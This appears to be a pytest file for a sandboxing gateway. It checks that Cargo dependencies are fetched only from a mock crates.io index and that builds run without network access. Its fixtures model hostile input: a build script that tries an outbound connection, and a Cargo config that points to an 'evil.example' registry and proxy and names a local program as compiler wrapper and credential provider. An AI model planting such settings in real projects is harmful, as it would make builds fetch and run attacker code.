"""Crates are fetched before a call runs, by this machine's own cargo, and built without a network."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import shutil
import subprocess
import tarfile
from http.server import BaseHTTPRequestHandler
from typing import TYPE_CHECKING, ClassVar

import pytest

from gateway.calls.containing import cannot_contain
from gateway.model.decision import Decision
from gateway.sandbox.egress import authority

from .package_index import check, run, served

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from gateway.sandbox.egress.service import Egress

INDEX, FILES = "index.crates.io", "static.crates.io"


def _sysroot() -> str:
    if not shutil.which("rustc"):
        return ""
    found = subprocess.run(["rustc", "--print", "sysroot"], capture_output=True, text=True)
    root = found.stdout.strip()
    return root if os.access(f"{root}/bin/cargo", os.X_OK) else ""


ROOT = _sysroot()
pytestmark = [
    pytest.mark.skipif(bool(cannot_contain()), reason="namespaces do not hold here"),
    pytest.mark.skipif(not authority.available(), reason="the package cryptography is not installed"),
    pytest.mark.skipif(not ROOT, reason="cargo is not installed"),
]


def crate(name: str, version: str, needs: tuple[str, ...] = ()) -> bytes:
    """A crate with one function that says its version, and a build script that tries to get out."""
    manifest = f'[package]\nname = "{name}"\nversion = "{version}"\nedition = "2021"\n[dependencies]\n'
    manifest += "".join(f'{each} = "1"\n' for each in needs)
    files = {
        "Cargo.toml": manifest,
        "src/lib.rs": f'pub fn said() -> &\'static str {{ "{name} {version}" }}\n',
        "build.rs": 'fn main() { println!("cargo:warning=out {}", '
        'std::net::TcpStream::connect("93.184.216.1:443").is_ok()); }\n',
    }
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for path, text in files.items():
            entry = tarfile.TarInfo(f"{name}-{version}/{path}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    return gzip.compress(made.getvalue(), mtime=0)


CRATES = {
    ("leaf", "1.0.0"): crate("leaf", "1.0.0"),
    ("leaf", "1.2.0"): crate("leaf", "1.2.0"),
    ("stem", "1.0.0"): crate("stem", "1.0.0", ("leaf",)),
}


def line(name: str, version: str) -> dict[str, object]:
    needs = [
        {"name": "leaf", "req": "^1", "features": [], "optional": False, "default_features": True, "target": None,
         "kind": "normal"},
    ] if name == "stem" else []  # fmt: skip
    digest = hashlib.sha256(CRATES[name, version]).hexdigest()
    return {"name": name, "vers": version, "deps": needs, "cksum": digest, "features": {}, "yanked": False}


class Index(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    asked: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.asked.append(f"{self.headers['Host']}{self.path}")
        body = b""
        parts = self.path.strip("/").split("/")
        if self.path == "/config.json":
            body = json.dumps({"dl": f"https://{FILES}/crates", "api": "https://crates.io"}).encode()
        elif parts[0] == "crates":
            body = CRATES.get((parts[1], parts[2]), b"")
        else:
            lines = [line(*each) for each in CRATES if each[0] == parts[-1]]
            body = "\n".join(map(json.dumps, lines)).encode()
        self.send_response(200 if body else 404)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_said: object) -> None:
        pass


@pytest.fixture(scope="module")
def registry(tmp_path_factory) -> Iterator[Egress]:
    with served(tmp_path_factory.mktemp("index"), (INDEX, FILES), Index) as egress:
        yield egress


ENVIRONMENT = {"PATH": f"{ROOT}/bin:/usr/local/bin:/usr/bin:/bin"}
MANIFEST = '[package]\nname = "mine"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\n'


@pytest.fixture
def place(tmp_path: Path) -> Path:
    for name in ("workspace/src", "home", "policies"):
        (tmp_path / name).mkdir(parents=True)
    policy = f"version: 1\nextends: [daily]\nsettings: {{mode: accept_edits, sandbox: {{read: ['/{ROOT}/**']}}}}\n"
    (tmp_path / "policies/user.yaml").write_text(policy)
    (tmp_path / "workspace/Cargo.toml").write_text(MANIFEST + 'stem = "1"\n')
    (tmp_path / "workspace/src/main.rs").write_text('fn main() { println!("{}", stem::said()); }\n')
    Index.asked.clear()
    return tmp_path


def test_crates_are_fetched_first_and_what_is_built_has_no_network(place: Path, registry: Egress) -> None:
    # The manifest that asks for them is one that a pattern means, and no lock file names them yet.
    work = place / "workspace"
    for name in ("src", "Cargo.toml"):
        (work / "crates/mine").mkdir(parents=True, exist_ok=True)
        (work / name).rename(work / "crates/mine" / name)
    (work / "Cargo.toml").write_text('[workspace]\nmembers = ["crates/*"]\nresolver = "2"\n')
    done = run(place, registry, "cargo fetch && cargo run -q", environment=ENVIRONMENT)
    assert (done.verdict.decision, done.verdict.contained, done.result.status) == (Decision.ALLOW, True, 0), done.result
    assert b"stem 1.0.0" in done.result.stdout
    assert b"out true" not in done.result.stderr
    assert sorted({each for each in Index.asked if each.startswith(FILES)}) == [
        f"{FILES}/crates/leaf/1.2.0/download", f"{FILES}/crates/stem/1.0.0/download",
    ]  # fmt: skip
    # A call of its own finds them, too, and needs no step.
    Index.asked.clear()
    done = run(place, registry, "cargo build --offline", environment=ENVIRONMENT)
    assert (done.result.status, Index.asked) == (0, [])


@pytest.mark.parametrize("text", ["cargo add leaf@=1.0.0 && cargo run -q", "cargo update && cargo run -q"])
def test_what_is_added_or_newer_is_fetched_as_well(place: Path, registry: Egress, text: str) -> None:
    done = run(place, registry, text, environment=ENVIRONMENT)
    assert (done.verdict.contained, done.result.status) == (True, 0), done.result
    version = "1.0.0" if "add" in text else "1.2.0"
    assert f'name = "leaf"\nversion = "{version}"' in (place / "workspace/Cargo.lock").read_text()


# What contained code may have left in the project; none of it is seen by what fetches.
HOSTILE = """
[source.crates-io]
replace-with = "evil"
[source.evil]
registry = "sparse+https://evil.example/"
[build]
rustc = "./rustc"
rustc-wrapper = "./rustc"
[registry]
global-credential-providers = ["./rustc"]
[net]
git-fetch-with-cli = true
[http]
proxy = "http://evil.example"
cainfo = "none.pem"
"""


def test_settings_of_the_project_choose_neither_a_host_nor_a_program(place: Path, registry: Egress) -> None:
    (place / "workspace/.cargo").mkdir()
    (place / "workspace/.cargo/config.toml").write_text(HOSTILE)
    (place / "workspace/rust-toolchain.toml").write_text('[toolchain]\npath = "/workspace/none"\n')
    done = run(place, registry, "cargo fetch; echo over", environment=ENVIRONMENT)
    # The call itself obeys them, without a network.
    assert (done.verdict.contained, done.plan.network.mode, done.result.stdout) == (True, "off", b"over\n")
    assert {each.partition("/")[0] for each in Index.asked} == {INDEX, FILES}
    assert [host for host, _requests, _bytes in done.result.said] == [INDEX, FILES]


@pytest.mark.parametrize(
    ("name", "text", "why"),
    [
        (
            "Cargo.lock",
            '[[package]]\nname = "x"\nversion = "1.0.0"\nsource = "git+https://evil.example/x#1"\n',
            "elsewhere",
        ),
        ("Cargo.toml", MANIFEST + 'x = { git = "https://evil.example/x" }\n', "elsewhere"),
        ("Cargo.toml", MANIFEST + 'absent = "1"\n', "could not be fetched"),
    ],
)
def test_what_is_not_to_be_had_from_the_registry_is_asked_about(place, registry, name, text, why) -> None:
    (place / "workspace" / name).write_text(text)
    done = run(place, registry, "cargo fetch && touch ran", environment=ENVIRONMENT)
    assert (done.verdict.decision, done.verdict.contained, done.result.ended) == (Decision.ASK, False, "refused")
    assert why in done.verdict.unfetched
    assert not (place / "workspace/ran").exists()
    assert check(place, "cargo fetch && touch ran", ENVIRONMENT).unfetched == done.verdict.unfetched


def test_a_cache_of_cargos_elsewhere_is_asked_about(place: Path) -> None:
    moved = ENVIRONMENT | {"CARGO_HOME": str(place / "workspace/cache")}
    verdict = check(place, "cargo fetch", moved)
    assert (verdict.decision, "where what is fetched goes" in verdict.unfetched) == (Decision.ASK, True)
    usual = ENVIRONMENT | {"CARGO_HOME": str(place / "home/.cargo")}
    assert check(place, "cargo fetch", usual).decision is Decision.ALLOW
